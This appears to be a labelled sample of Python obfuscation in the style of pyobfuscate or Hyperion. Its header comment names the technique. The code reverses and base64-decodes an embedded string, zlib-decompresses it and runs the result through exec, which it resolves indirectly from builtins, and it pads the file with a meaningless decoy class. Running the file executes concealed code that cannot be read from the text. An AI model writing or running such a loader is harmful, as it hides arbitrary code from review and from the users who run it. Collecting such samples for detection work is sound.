# technique: heavily obfuscated (pyobfuscate/Hyperion style) — lambda decodes reversed base64 -> zlib -> exec via __import__('builtins'), meaningless names
_____ = "TaiYNtQ1WXZAPdS9kaKR0DcFU4FiVlJjuILr6o9bNyW7bOJjDUH0wewbMdGZLOLVYq8VC/PVLuxrY0AxxN/eKpplmc2ie3ut/2pT2kjQAlOT6Axg2zoQXi2p9BNAQACgKs0xVxJe"
___ = lambda ____: __import__("zlib").decompress(__import__("base64").b64decode(____[::-1]))
__ = getattr(__import__("builtins"), "".join(map(chr, [101, 120, 101, 99])))


class _O0O0(object):
    def __init__(self, O0O0O):
        self.O0O0O = O0O0O

    def O00O0(self):
        return [O.Name for O in self.O0O0O]


__(___(_____))
